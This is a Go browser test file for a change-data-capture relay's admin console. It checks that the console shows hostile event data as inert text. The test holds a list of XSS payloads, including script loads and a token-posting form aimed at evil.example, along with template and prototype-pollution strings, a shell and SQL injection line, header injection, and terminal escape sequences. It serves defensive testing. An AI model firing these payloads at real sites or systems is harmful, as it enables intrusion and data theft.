//go:build nightly

package console

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/cdc-relay/cdc-relay/internal/devenv/await"
	"github.com/cdc-relay/cdc-relay/internal/devenv/servers/pgserver"
)

// hostile are texts that a page may take for markup, for code or for a part of itself. Each comes
// as an id, a key, a type, a header and a payload; the broker repeats the type in its words.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`"><script src="https://evil.example/x.js"></script>`,
	`'-alert(1)-'`,
	"`${alert(1)}`",
	`{{constructor.constructor('alert(1)')()}}`,
	`javascript:alert(1)`,
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
	`<a href="javascript:alert(1)">press</a>`,
	`<style>*{display:none}</style>`,
	`<base href="https://evil.example/"><form action="https://evil.example"><input name=token></form>`,
	`</bdi></pre></div><h1>Delivered</h1>`,
	"\u202egnp.exe\u202c \u2066hidden\u2069",
	"\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
	"zero\u200bwidth\ufefftext\u2060here\u00ad\u034f\u115f\u3164\u180e\u200d\ufe0f",
	"line\nfeed\tand \u2028 separators \u0085",
	"\u0007bell\u001b[31mred\u001b[0m",
	"\U000e0041tags \ufffd z\u0310a\u0310l\u0310g\u0310o\u0310",
	"\x1b]8;;https://evil.example\x07press\x1b]8;;\x07 \x1b[2J\x1b[31mred\u009b1m",
	`</script></style></textarea></title><!--`,
	`--><![CDATA[<script>alert(1)</script>]]>`,
	strings.Repeat("unbroken", 25),
	strings.Repeat("a\u0300\u0301\u0302", 30),
	"$(touch /tmp/x); `id` && '; DROP TABLE outbox; --",
	`../../api/v1/status?x=%2e%2e%2f&amp;#/safety`,
	"a\r\nSet-Cookie: x=1\r\n\r\n<html>",
	`{"__proto__": {"html": "<img src=x onerror=alert(1)>"}, "constructor": null, "type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "<script>alert(1)</script>"}}}`,
}

// more are payloads that cost a page something.
var more = map[string][]byte{
	"megabyte": []byte(strings.Repeat("<b>wide</b>", 100_000)),
	"deep":     []byte(strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000)),
	"no-utf-8": {'<', 'b', '>', 0xff, 0xfe, 0x00, 0xc3, 0x28, 0xed, 0xa0, 0x80},
	"nul":      []byte("a\x00b"),
	"nested":   []byte(strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000)),
	"numbers":  []byte(`{"n": 1e999, "m": -0, "k": 12345678901234567890123456789.10, "k": "twice"}`),
	"keys":     []byte("{" + strings.Repeat(`"":1,`, 100_000) + `"":1}`),
	"half":     []byte(`{"half": "\ud800", "nul": "\u0000", "script": "<\/script>"}`),
	"one-line": []byte(`{"a": "` + strings.Repeat("x", 500_000) + `"}`),
}

// Whatever an event has in it is shown as text, and cut: nothing runs, nothing is loaded, and no
// element comes of it.
func TestHostileTexts(t *testing.T) {
	s := newShop(t, 4<<20)
	for i, text := range hostile {
		headers, err := json.Marshal(map[string]string{"x": text, "x " + text: "y"})
		await.Must(t, err)
		await.Must(t, pgserver.OnConn(await.Context(t), s.db, func(conn *pgx.Conn) error {
			_, err := conn.Exec(await.Context(t), `INSERT INTO outbox (id, aggregatetype, aggregateid, type, payload, headers) VALUES ($1, 'lost', $2, $2, $3, $4)`,
				fmt.Sprint(i, " ", text), text, []byte(text), headers)
			return err
		}))
	}
	for name, payload := range more {
		s.insert(name, "lost", strings.Repeat("key of "+name+" ", 1+len(payload)/300), "wide", payload)
	}
	total := len(hostile) + len(more)
	s.becomes(total, "SELECT count(*) FROM cdc_relay.retry")
	p := look(chromium(t), t, s.relay.Admin())
	p.open(mayChange)
	inert := func(what string) {
		t.Helper()
		// the page makes none of these, and of texts only bdi
		if n := value[int](p, `document.querySelectorAll('main script, main img, main iframe, main svg, main style, main base, main form[action], main a[href^="javascript:"], pre *:not(bdi), bdi *, h1 ~ h1').length`); n > 0 {
			t.Errorf("%s: %d elements come of a text", what, n)
		}
		if value[bool](p, `getComputedStyle(document.querySelector('h1')).display === 'none' || document.title.includes('evil') || 'html' in {}`) {
			t.Errorf("%s: a text has changed the page", what)
		}
		if found := value[[]string](p, `[...document.body.innerText.matchAll(/[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u00ad\u034f\u115f\u3164\u180e\u200d\ufe0f]/g)].map((m) => m[0].codePointAt(0).toString(16))`); len(found) > 0 {
			t.Errorf("%s shows characters that nobody sees: %q", what, found)
		}
	}
	for _, screen := range []string{"#/flow", "#/stuck", "#/deferred", "#/dead-letters"} {
		p.screen(screen)
		inert(screen)
	}
	p.screen("#/deferred")
	p.says("[U+202E]gnp.exe", "<script>alert(1)</script>")
	p.accessible("hostile texts")
	for n := 1; n <= total; n++ {
		p.screen(fmt.Sprintf("#/deferred/%d", n))
		p.says(fmt.Sprintf("Deferred event %d", n), "Payload", "What happened")
		inert(fmt.Sprint("row ", n))
		if size := value[int](p, `Math.max(0, ...[...document.querySelectorAll('pre')].map((e) => e.textContent.length))`); size > 64_000+2000 {
			t.Errorf("row %d: %d characters are shown without being asked for", n, size)
		}
		if value[bool](p, named("Show all")+` !== undefined`) {
			p.press("Show all")
			inert(fmt.Sprint("all of row ", n))
		}
	}
	for i, text := range hostile {
		p.run(navigateHash("find", text))
		p.says("The event with this id")
		inert(fmt.Sprint("find ", i))
	}
	// as dead letters, with the operator's words in the audit
	p.screen("#/deferred")
	p.press("Give up…")
	p.says(fmt.Sprint(total, " matches"))
	p.reason(hostile[1], "has begun")
	s.becomes(total, "SELECT count(*) FROM cdc_relay.dead_letter")
	for _, screen := range []string{"#/dead-letters?state=open", "#/safety"} {
		p.screen(screen)
		p.says("<img src=x onerror=alert(1)>")
		inert(screen)
	}
	// what is no text at all
	s.exec(`UPDATE cdc_relay.dead_letter SET id = '\xfffe3c623e', key = '\xc328', type = '\xff3c623e', aggregate = '\x00' WHERE n = (SELECT min(n) FROM cdc_relay.dead_letter)`)
	for _, screen := range []string{"#/dead-letters?state=open&group=type", fmt.Sprint("#/dead-letters/", s.count("SELECT min(n) FROM cdc_relay.dead_letter"))} {
		p.screen(screen)
		p.says("\ufffd<b>")
		inert(screen)
		p.accessible(screen)
	}
	if value[bool](p, `fetch('https://evil.example/').then(() => true, () => false)`) {
		t.Error("the policy lets the page ask another host")
	}
	p.allow("evil.example") // that question
	if n := value[int](p, `(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); return window.ran ?? 0 })()`); n > 0 {
		t.Error("the policy lets a script of the page's text run")
	}
	p.allow("Content Security Policy")
}
